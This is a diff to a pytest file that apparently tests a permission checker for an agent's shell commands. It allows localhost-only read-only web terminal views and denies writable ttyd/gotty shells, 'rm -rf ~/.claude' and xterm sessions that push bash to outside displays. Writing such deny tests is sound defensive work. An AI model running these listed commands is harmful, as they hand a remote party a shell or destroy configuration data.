@@ -116,3 +116,25 @@ def test_keys_on_a_web_terminal_page_opened_earlier_deny(world):
 ])
 def test_typing_controls(world, tool, args):
     assert verdict(world.tool(tool, **args)) != "deny", (tool, args)
+
+
+@pytest.mark.parametrize("command", [
+    "ttyd -i lo -p 7682 tail -f logs/ingest.log",
+    "ttyd --interface lo --port 7690 journalctl --user -f",
+    "gotty -a 127.0.0.1 htop",
+])
+def test_read_only_web_terminal_views_allow(world, command):
+    assert verdict(world.run(command)) == "allow", command
+
+
+@pytest.mark.parametrize("command", [
+    "ttyd -W -i lo -p 7682 bash",
+    "ttyd -p 7682 --writable tail -f logs/x.log",
+    "ttyd -i lo bash",
+    "gotty -w htop",
+    "ttyd -i lo -p 7682 rm -rf ~/.claude",
+    "xterm -display support.example.net:1 -e /bin/bash",
+    "DISPLAY=203.0.113.9:0 xterm -e bash",
+])
+def test_web_terminals_and_remote_displays_deny(world, command):
+    assert verdict(world.run(command)) == "deny", command
